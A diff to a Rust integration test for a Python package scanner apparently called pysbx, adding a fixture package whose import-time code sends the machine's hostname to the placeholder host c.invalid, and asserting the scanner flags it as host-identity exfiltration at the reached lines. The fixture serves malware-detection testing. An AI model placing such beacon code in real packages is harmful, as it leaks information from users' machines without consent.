@@ -865,7 +865,23 @@ fn what_an_entry_file_runs_in_its_packages_other_modules_is_install_or_import_ti
     let members: Vec<(&str, &[u8])> =
         sdist.iter().map(|(n, b)| (n.as_str(), b.as_slice())).collect();
     make_sdist(&dir.path().join("tool-1.0.tar.gz"), &members, &[]);
-    let paths = ["a", "b", "c", "d", "e", "f", "g", "h", "k", "tool-1.0.tar.gz"];
+    // Methods called on such objects, and a method those call on `self`.
+    write(
+        dir.path(),
+        "m/pkg/__init__.py",
+        "from .core import Beacon, Agent\nBeacon().send()\nagent = Agent()\nagent.start()\n",
+    );
+    write(
+        dir.path(),
+        "m/pkg/core.py",
+        "import socket, urllib.request\nclass Beacon:\n    def send(self):\n        \
+         urllib.request.urlopen('https://c.invalid/?h=' + socket.gethostname())\n    \
+         def later(self):\n        \
+         urllib.request.urlopen('https://c.invalid/?h=' + socket.gethostname())\n\
+         class Agent:\n    def start(self):\n        self._go()\n    def _go(self):\n        \
+         urllib.request.urlopen('https://c.invalid/?h=' + socket.gethostname())\n",
+    );
+    let paths = ["a", "b", "c", "d", "e", "f", "g", "h", "k", "m", "tool-1.0.tar.gz"];
     let out = pysbx(dir.path()).args(["scan", "--format", "json"]).args(paths).output().unwrap();
     let doc = json(&out);
     let expected = [
@@ -875,6 +891,8 @@ fn what_an_entry_file_runs_in_its_packages_other_modules_is_install_or_import_ti
         "d/tool/hooks.py",
         "e/pkg/core.py",
         "k/pkg/core.py",
+        "m/pkg/core.py",
+        "m/pkg/core.py",
         "tool-1.0.tar.gz!/tool-1.0/tool/hooks.py",
     ];
     assert_eq!(paths_with(&doc, "host-identity-exfiltration"), expected, "{doc}");
@@ -886,8 +904,14 @@ fn what_an_entry_file_runs_in_its_packages_other_modules_is_install_or_import_ti
         .filter(|f| f["name"] == "host-identity-exfiltration")
         .map(|f| (f["path"].as_str().unwrap(), f["line"].as_u64().unwrap()))
         .collect();
-    let expected_line = |path: &str| if path.starts_with("k/") { 4 } else { 3 };
-    assert!(lines.iter().all(|(path, line)| *line == expected_line(path)), "{doc}");
+    let expected_lines = |path: &str| match path {
+        "k/pkg/core.py" => vec![4],
+        "m/pkg/core.py" => vec![4, 11],
+        _ => vec![3],
+    };
+    assert!(lines.iter().all(|(path, line)| expected_lines(path).contains(line)), "{doc}");
+    let in_m: Vec<u64> = lines.iter().filter(|(p, _)| *p == "m/pkg/core.py").map(|l| l.1).collect();
+    assert_eq!(in_m, [4, 11], "{doc}");
     // In repository mode the entry files come from the cache the second time, with what they
     // call: the same findings.
     for _ in 0..2 {
